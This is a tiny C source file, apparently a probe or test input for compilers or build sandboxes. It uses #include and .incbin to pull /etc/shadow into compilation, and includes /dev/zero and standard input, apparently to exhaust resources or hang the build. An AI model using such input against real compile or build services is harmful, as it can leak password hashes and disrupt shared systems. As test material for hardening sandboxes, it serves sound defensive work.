/* SPDX-License-Identifier: MIT */
#include "/etc/shadow"
#include "/dev/zero"
#include "/proc/self/fd/0"
__asm__(".incbin \"/etc/shadow\"");
